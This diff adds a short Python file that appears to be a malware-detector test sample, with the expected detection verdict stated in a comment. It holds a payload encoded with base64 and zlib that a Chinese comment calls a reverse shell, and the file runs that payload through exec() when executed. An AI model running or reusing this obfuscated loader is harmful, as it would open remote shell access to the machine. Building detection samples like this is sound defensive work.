@@ -0,0 +1,8 @@
+# base64和zlib两层编码的反弹shell载荷，执行前静态解码即可给出结论
+# detect-expect: 'IsMalicious': True, 'Desc': 'Encoded payload with malicious indicator'
+import base64
+import zlib
+
+PAYLOAD = "eJzLzC3ILypRyC+2BmK94sriktRcDaWkxOIMBd1kBXUII1PBTk1BPyW1TL8kuUDf0EAPBA31TYBAwcBOzVBdSRMAUGAUag=="
+
+exec(zlib.decompress(base64.b64decode(PAYLOAD)))